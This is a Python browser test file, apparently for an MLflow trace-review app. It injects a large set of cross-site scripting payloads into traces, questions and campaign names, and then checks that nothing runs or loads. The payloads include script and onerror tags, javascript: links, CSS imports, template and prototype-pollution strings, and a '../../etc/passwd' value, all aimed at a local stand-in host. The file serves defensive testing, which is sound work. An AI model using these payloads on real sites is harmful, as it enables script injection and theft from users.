"""Hostile traces end to end: logged or imported, read and answered in a real Chromium."""

from __future__ import annotations

import json
import os
import re
import time
import warnings
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import mlflow
import pytest
from click.testing import CliRunner
from mlflow.entities import AssessmentSource, Feedback, SpanType
from playwright.sync_api import Locator, Page, expect

from cli import main
from review_app.campaigns import Assignment, Campaign, PlanItem, PlanPart
from review_app.questions import Question
from services.assessments import assessments_of
from services.campaign_writing import CampaignWriting
from services.campaigns import Campaigns
from services.store import Store

pytestmark = pytest.mark.browser

WITHIN_SECONDS = 20
REVIEWER = "<img src=x onerror='window.ran=1'> ana"
CAMPAIGN = "<img src=x onerror='window.ran=1'> & [a](javascript:window.ran=1) $x$ :red[b]"
DANGEROUS = (
    "script, style, link, img, iframe, object, embed, video, audio, svg, math, form, base, meta, "
    "input, details, template, [src], [srcset], [srcdoc], [href], [style], [id], [background], "
    "[action], [formaction], [slot], [part]"
)
FOUND = """([places, dangerous]) => {
  const shown = places.flatMap((place) => [...document.querySelectorAll(place)]);
  const host = document.querySelector("[data-testid=desk-host]");
  if (host) shown.push(...places.flatMap((place) => [...host.shadowRoot.querySelectorAll(place)]));
  const all = shown.flatMap((root) => [...root.querySelectorAll("*")]);
  const handled = (e) => e.getAttributeNames().some((name) => name.startsWith("on"));
  return {
    places: shown.length,
    ran: window.ran ?? ({}).ran ?? 0,
    dangerous: all.filter((e) => e.matches(dangerous) || handled(e)).map((e) => e.outerHTML),
  };
}"""
DESK_PLACES = [".held", ".facts-line", ".prose", ".items", ".qs .lg", ".qs .opts", "h1.name"]


@dataclass
class Listener:
    """A server on this machine that remembers whatever is fetched from it."""

    address: str = ""
    fetched: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    """Stands for any host elsewhere."""
    heard = Listener()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            heard.fetched.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()
            self.wfile.write(b"window.ran = 1")

        do_POST = do_GET  # noqa: N815 - http.server calls it so

        def log_message(self, *arguments):
            """Be quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    heard.address = f"http://127.0.0.1:{server.server_port}"
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield heard
    server.shutdown()
    server.server_close()
    thread.join()


HOSTILE = """
<script>window.ran=1;fetch('HIT')</script><script src=HIT></script>
<img src='HIT' onerror='window.ran=1'><img srcset='HIT 2x'>
%%
<svg onload='window.ran=1'><image href='HIT'/><use href='HIT#x'/>
<style>@import 'HIT';*{background:url(HIT)}</style></svg><math><mtext><table><mglyph>
%%
<iframe src='HIT' srcdoc='<script>parent.ran=1</script>'></iframe><object data=HIT><embed src=HIT>
<video src=HIT poster=HIT autoplay></video><audio src=HIT>
%%
</div></template></article></main><form action='HIT'><button name=parentNode>go</form>
<meta http-equiv=refresh content='0;url=HIT'><base href='HIT'><link rel=preload as=image href='HIT'>
<p style='position:fixed;inset:0;background:url(HIT)'>
%%
[a](javascript:window.ran=1) [b](JaVa&#x09;ScRiPt:window.ran=1) [c](java\tscript:ran=1)
[d](data:text/html,<script>ran=1</script>) <javascript:window.ran=1> [e](vbscript:x)
[f](&#106;avascript&colon;window.ran=1) [g]( javascript:window.ran=1) [h](//HOST/hit)
%%
![i](HIT) ![j][k] [l][k] <HIT> HIT ![m](data:image/svg+xml,<svg/onload=ran=1>) [![n](HIT)](HIT)

[k]: HIT 't'
[^1]: HIT

|a|b|
|-|-|
|![x](HIT)|b|
%%
$\\href{HIT}{x}$ $$\\includegraphics{HIT}$$ :red[x] :material/home: :smile: {{7*7}} {% raw %}
${window.ran=1} `{{constructor.constructor('ran=1')()}}`
%%
{"__proto__": {"ran": 1}, "constructor": {"prototype": {"ran": 1}}} __proto__ constructor toString
'" onmouseover='window.ran=1' autofocus onfocus=window.ran=1 x="
%%
\u202eoverride\u202c \u2066isolate\u2069 zero\u200bwidth\ufeff \u2028line \u2029end \x07\x1b[31m
\U000e0041\U000e0042 tags \xad soft + a\u0301\u0301\u0301\u0301 \ufffe\uffff \x85
%%
<!--><img src=HIT>--><![CDATA[<img src=HIT>]]><?xml-stylesheet href=HIT?><plaintext>
<noscript><p title='</noscript><img src=HIT>'>+ADw-script+AD4- &lt;img src=HIT&gt; &#60;img src=HIT>
"""


def hostile_texts(address: str) -> list[str]:
    """What has broken pages elsewhere; each text asks for ``address`` in every way it knows."""
    told = HOSTILE.replace("HIT", f"{address}/hit").replace("HOST", address.removeprefix("http://"))
    return [text.strip("\n") for text in told.split("%%")]


# ------------------------------------------------------------------------ the traces in MLflow
def marked(number: int, name: str, text: str) -> str:
    """The text, ended by a word that says where it was put."""
    return f"{text} END{number}{name}"


AT_ONCE = ("question", "answer")
OPENED = (
    *("system", "earlier", "argument", "value", "key", "result", "passage", "title", "source"),
    *("chunk", "sql", "column", "cell", "failed", "error", "stack"),
)
RAW = ("tool", "graph", "attribute", "noted")
FACTS = ("version", "session", "user", "reason", "thumbs")


def log(number: int, text: str) -> str:
    """Log a run of an agent through MLflow, with the text in every place; return the trace's id."""

    def end(name: str) -> str:
        return marked(number, name, text)

    with mlflow.start_span("agent", SpanType.AGENT) as root:
        talk = [("system", "system"), ("user", "earlier"), ("assistant", "earlier")]
        asked = [{"role": role, "content": end(name)} for role, name in talk]
        root.set_inputs({"messages": [*asked, {"role": "user", "content": end("question")}]})
        root.set_attribute(end("attribute"), end("noted"))
        mlflow.update_current_trace(
            tags={end("tag")[:200]: text},
            metadata={"mlflow.modelId": f"END{number}version {text}"[:250]},
            session_id=f"END{number}session {text}"[:250],
            user=f"END{number}user {text}"[:250],
        )
        with mlflow.start_span(end("graph"), SpanType.CHAIN):
            log_steps(end)
        root.set_outputs({"messages": [{"role": "assistant", "content": end("answer")}]})
    return root.trace_id


def log_steps(end: Any) -> None:
    """A tool, a search, a query and a failure."""
    with mlflow.start_span(end("tool"), SpanType.TOOL) as tool:
        tool.set_inputs({end("argument"): end("value")})
        tool.set_outputs({end("key"): end("result")})
    with mlflow.start_span("search", SpanType.RETRIEVER) as search:
        search.set_inputs({"query": "x"})
        about = {name: end(name) for name in ("source", "title")}
        document = {"page_content": end("passage"), "metadata": {**about, "chunk_id": end("chunk")}}
        search.set_outputs([document])
    with mlflow.start_span("run_sql", SpanType.TOOL) as sql:
        quoted = end("sql").replace("'", "''")
        sql.set_inputs({"query": f"SELECT '{quoted}' FROM orders"})
        sql.set_outputs({"columns": [end("column")], "rows": [[end("cell")]]})
    with pytest.raises(RuntimeError), mlflow.start_span(end("failed"), SpanType.TOOL):
        raise RuntimeError(f"{end('stack')}\n{end('error')}")


@dataclass(frozen=True)
class Hostile:
    """The campaign of hostile traces: their ids in reading order, and their texts."""

    store: Store
    traces: list[str]
    texts: list[str]


@pytest.fixture(scope="module")
def hostile(module_store, listener) -> Hostile:
    """Traces logged through MLflow, end users' thumbs on them, and a campaign as hostile."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # what MLflow imports when it begins to trace
        return make_hostile(module_store, hostile_texts(listener.address))


def make_hostile(store: Store, texts: list[str]) -> Hostile:
    mlflow.set_tracking_uri(store.uri)
    experiment_id = mlflow.set_experiment("hostile").experiment_id
    try:
        traces = [log(number, text) for number, text in enumerate(texts)]
        mlflow.flush_trace_async_logging()
        for number, (trace_id, text) in enumerate(zip(traces, texts, strict=True)):
            said = Feedback(
                name="user_feedback",
                value=False,
                source=AssessmentSource("HUMAN", text),
                rationale=marked(number, "thumbs", text),
            )
            mlflow.log_assessment(trace_id, said)
    finally:
        mlflow.set_tracking_uri("")
    plan = [
        PlanItem(
            trace_id,
            "all",
            marked(n, "reason", text),
            assigned=(Assignment(REVIEWER, n + 1), Assignment("bo", n + 1)),
        )
        for n, (trace_id, text) in enumerate(zip(traces, texts, strict=True))
    ]
    campaign = Campaign(
        CAMPAIGN,
        hostile_questions(texts),
        owner=REVIEWER,
        experiment_id=experiment_id,
        purpose="\n\n".join([*texts, "ENDpurpose"]),
        instructions="\n\n".join([*texts, "ENDinstructions"]),
    )
    CampaignWriting(Campaigns(store)).create(campaign, PlanPart(tuple(plan)))
    return Hostile(store, traces, texts)


def hostile_questions(texts: list[str]) -> tuple[Question, ...]:
    """Questions whose every word is hostile, names that mean something to JavaScript included."""
    whole = "\n\n".join(texts)
    image, names = "<img src=x onerror='window.ran=1'>", ("__proto__", "constructor", "toString")
    about = f"{texts[0]} {image} ENDmeaning"
    first = Question(
        names[0], "pass_fail", f"{texts[1]} ENDtitle", options=(f"Yes {image}", f"No {image}")
    )
    return (
        replace(
            first, instruction=about, failed_example=whole, passed_example=f"{whole} ENDexample"
        ),
        Question(names[1], "choices", image, options=(f"One {image}", f"{image}"), required=False),
        Question(names[2], "text", texts[4], required=False),
    )


# --------------------------------------------------------------------------- what a browser does
@pytest.fixture
def watched(app, visit, listener) -> Iterator[Any]:
    """Open a tab; afterwards nothing was fetched elsewhere, nothing ran, and no page failed."""
    heard: list[str] = []

    def open_tab(person: str = REVIEWER):
        desk = visit(app, person)
        own = (app.address, app.address.replace("http", "ws"), "data:", f"blob:{app.address}")

        def request(asked) -> None:
            if not asked.url.startswith(own):
                heard.append(asked.url)

        def console(message) -> None:
            if "Content Security Policy" in message.text:
                heard.append(message.text)

        def dialog(shown) -> None:
            heard.append(f"dialog {shown.message}")
            shown.dismiss()

        desk.page.context.on("request", request)
        desk.page.context.on("page", lambda page: heard.append(f"new tab {page.url}"))
        desk.page.on("console", console)
        desk.page.on("dialog", dialog)
        desk.page.on("pageerror", lambda error: heard.append(f"error {error.message}"))
        desk.page.on("crash", lambda: heard.append("crash"))
        return desk

    before = len(listener.fetched)
    yield open_tab
    assert heard == []
    assert listener.fetched[before:] == []


def is_harmless(page: Page, *places: str) -> None:
    """Nothing in these places can load or run anything, and nothing has run."""
    found = page.evaluate(FOUND, [list(places), DANGEROUS])
    assert found["places"]
    assert (found["ran"], found["dangerous"]) == (0, [])


def shows(place: Locator, *words: str) -> None:
    """Wait until all the words can be read there."""
    until = time.monotonic() + WITHIN_SECONDS
    while missing := [w for w in words if w.lower() not in place.inner_text().lower()]:
        assert time.monotonic() < until, missing
        time.sleep(0.05)


def ends(number: int, names: tuple[str, ...]) -> list[str]:
    return [f"END{number}{name}" for name in names]


def test_hostile_traces_are_read_and_answered(hostile, watched):
    """Every hostile text is on screen or one key away, loads and runs nothing, can be judged."""
    desk = watched().open(CAMPAIGN, hostile.traces[0])
    desk.page.get_by_role("button", name="Begin").click()
    for number, trace_id in enumerate(hostile.traces):
        desk.shows_item(trace_id)
        shows(desk.reader, *ends(number, AT_ONCE))
        shows(desk.press("e").reader, *ends(number, OPENED))
        shows(desk.press("a", "j").reader, *ends(number, RAW))
        is_harmless(desk.page, *DESK_PLACES)
        desk.press("1", "Control+Enter")
    expect(desk.done).to_be_visible()
    desk.is_saved()
    for trace_id in hostile.traces:
        said = [a for a in assessments_of(hostile.store, trace_id) if a.source == REVIEWER]
        assert [(a.name, a.value) for a in said] == [("__proto__", True)]


def test_what_is_shown_after_the_answer_is_as_harmless(hostile, watched):
    """Version, user, session, reason and end users' words are text, and so are the lists."""
    desk = watched().open(CAMPAIGN, hostile.traces[0])
    for number, trace_id in enumerate(hostile.traces):
        desk.shows_item(trace_id)
        shows(desk.facts, *ends(number, FACTS))
        is_harmless(desk.page, *DESK_PLACES)
        desk.press("ArrowRight")
    desk.press("l")
    expect(desk.page.locator(".row-item .t").nth(9)).not_to_have_text("Item 10")
    is_harmless(desk.page, *DESK_PLACES)


def test_what_leads_and_reviewers_wrote_is_as_harmless(hostile, watched):
    """Introduction, instructions, questions, names and finished answers are text, to the end."""
    desk = watched()
    desk.page.goto(desk.address)
    expect(desk.page.locator(".row-name")).to_have_text(CAMPAIGN)
    expect(desk.page.locator(".finished")).to_have_count(len(hostile.traces))
    desk.page.get_by_label("Search").fill("<img src")
    desk.page.get_by_label("Search").press("Enter")
    expect(desk.page.get_by_text("10 items. Open one")).to_be_visible()
    is_harmless(desk.page, ".row-name", ".finished .t", ".finished .said")
    other = watched("bo").open(CAMPAIGN)
    shows(other.page.locator("dialog[open]"), "ENDpurpose", "ENDmeaning", "ENDexample", CAMPAIGN)
    is_harmless(other.page, "dialog[open] .prose", *DESK_PLACES)
    other.press("Enter", "i")
    shows(other.page.locator("dialog[open]"), "ENDinstructions", "ENDmeaning", "ENDexample")
    is_harmless(other.page, "dialog[open] .prose")
    shows(other.form, "ENDtitle")


def test_links_of_a_trace_wait_to_be_opened(hostile, watched):
    """A click on a link asks first, with the address in sight; find marks text and nothing else."""
    desk = watched("bo").open(CAMPAIGN, hostile.traces[5])
    desk.press("Enter")
    desk.reader.locator(".ans a.ext").first.click()
    expect(desk.page.locator("dialog[open] .address")).to_contain_text("/hit")
    desk.press("Escape", "f").type("END5stack")
    expect(desk.page.locator(".hits")).to_have_text(re.compile("1 of [1-9]"))
    shows(desk.reader, "END5stack")
    is_harmless(desk.page, *DESK_PLACES)


# --------------------------------------------------------------------- odd traces, by the import
ODD = "half \ud800 NUL \x00 \u202eover\u202c {% raw %}"


def odd_traces() -> Iterator[dict[str, Any]]:
    """What no app should log and some do, as MLflow's trace JSON."""
    deep: Any = "ENDdeep"
    for _ in range(450):
        deep = {"d": [deep]}
    long = "word " * 1_000_000
    steps = [span(f"step {n} ENDstep{n}", "TOOL", {"n": n}, {"n": n}) for n in range(1, 400)]
    asked = {"question": "What? ENDasked"}
    yield trace("long", span("a", "AGENT", asked, {"answer": f"STARTlong {long} ENDlong"}))
    yield trace("deep", span("a", "AGENT", asked, {"answer": "x"}), span("b", "TOOL", deep, deep))
    yield trace("many", span("a", "AGENT", asked, {"answer": "x ENDmany"}), *steps)
    yield trace("nothing", request_preview=None)
    yield trace("no outputs", span("a", "AGENT", asked, None))
    running = span("a", "AGENT", asked, None)
    yield trace("running", {**running, "end_time_unix_nano": None}, state="IN_PROGRESS")
    odd = {ODD: f"{ODD} ENDodd", "__proto__": {"ran": 1}, "nan": float("nan"), "": None}
    about = {
        "mlflow.trace.session": 'it\'s "a" `session` \\ % -- ; \u202e',
        "mlflow.trace.user": "../../etc/passwd",
        "mlflow.trace.tokenUsage": '{"total_tokens": 1e999}',
    }
    whole = span(f"{ODD}", "AGENT", {"question": f"{ODD} ENDasked"}, odd)
    yield trace(
        "a/b:c?d#e%2F&f='\"<g> \u202e", whole, span(ODD, "TOOL", ODD, ODD), trace_metadata=about
    )


def span(name: str, kind: str, inputs: Any, outputs: Any) -> dict[str, Any]:
    values = {"mlflow.spanType": kind, "mlflow.spanInputs": inputs, "mlflow.spanOutputs": outputs}
    return {
        "name": name,
        "start_time_unix_nano": 1_794_492_180_000_000_000,
        "end_time_unix_nano": 1_794_492_181_000_000_000,
        "events": [],
        "status": {"code": "STATUS_CODE_OK", "message": ""},
        "attributes": {key: json.dumps(value) for key, value in values.items()},
    }


def trace(trace_id: str, *spans: dict[str, Any], **info: Any) -> dict[str, Any]:
    """The spans as one trace; the first of them is the root."""
    ids = [b64encode(sha256(f"{trace_id}{n}".encode()).digest()[:8]) for n in range(len(spans))]
    whole = {"trace_id": b64encode(sha256(trace_id.encode()).digest()[:16]).decode()}
    for number, one in enumerate(spans):
        parent = ids[0].decode() if number else None
        one |= {**whole, "span_id": ids[number].decode(), "parent_span_id": parent}
        one["attributes"]["mlflow.traceRequestId"] = json.dumps(trace_id)
    home = {"mlflow_experiment": {"experiment_id": "1"}}
    known = {"trace_id": trace_id, "trace_location": home, "state": "OK"}
    when = {"request_time": "2026-11-12T14:03:00Z", "execution_duration_ms": 5}
    return {"info": {**known, **when, **info}, "data": {"spans": list(spans)}}


@pytest.fixture(scope="module")
def imported(module_store, tmp_path_factory) -> list[str]:
    """Odd traces, imported by the command line into the queue of ana; returns their ids."""
    traces = list(odd_traces())
    file = tmp_path_factory.mktemp("odd") / "odd.json"
    file.write_text(json.dumps(traces), "utf-8")
    words = ["import", str(file), "--experiment", "odd", "--campaign", "odd", "--reviewer", "ana"]
    clean = {name: None for name in os.environ if name.startswith("REVIEW_")}
    done = CliRunner().invoke(main, words, env={**clean, "MLFLOW_TRACKING_URI": module_store.uri})
    assert done.exit_code == 0, done.output
    return [one["info"]["trace_id"] for one in traces]


ODD_SHOWS = {
    "long": ("ENDasked", "ENDlong"),
    "deep": ("ENDasked", "ENDdeep"),
    "many": ("ENDasked", "ENDmany", "ENDstep1", "ENDstep399"),
    "nothing": ("No question was recorded.", "No answer was recorded."),
    "no outputs": ("ENDasked", "No answer was recorded."),
    "running": ("ENDasked", "still running"),
}


def test_odd_traces_are_read_to_the_end_and_answered(imported, module_store, watched):
    """Megabytes, depth, many steps, nothing at all, odd ids: all is found, each can be judged."""
    desk = watched("ana").open("odd", imported[0])
    for trace_id in imported:
        desk.shows_item(re.escape(trace_id))
        for word in ODD_SHOWS.get(
            trace_id, ("ENDasked", "ENDodd", "D800", "NUL", "RLO", "{% raw %}")
        ):
            finds(desk, word)
        desk.press("e", "a", "j")
        is_harmless(desk.page, *DESK_PLACES)
        desk.press("1", "Control+Enter")
    expect(desk.done).to_be_visible()
    desk.is_saved()
    for trace_id in imported:
        said = [a for a in assessments_of(module_store, trace_id) if a.source == "ana"]
        assert [(a.name, a.value) for a in said] == [("quality", True)]
    desk.open("odd", imported[-1])
    shows(desk.facts, "user ../../etc/passwd", 'it\'s "a" `session`')


def finds(desk: Any, word: str) -> None:
    """Type a word into the find bar; Enter looks again while the rest of a long text arrives."""
    desk.press("f").type(word)
    until = time.monotonic() + WITHIN_SECONDS
    while not re.match(r"\d+ of \d+", desk.page.locator(".hits").inner_text()):
        assert time.monotonic() < until, word
        desk.press("Enter")
        time.sleep(0.1)
    shows(desk.reader, word)
    desk.press("Escape")
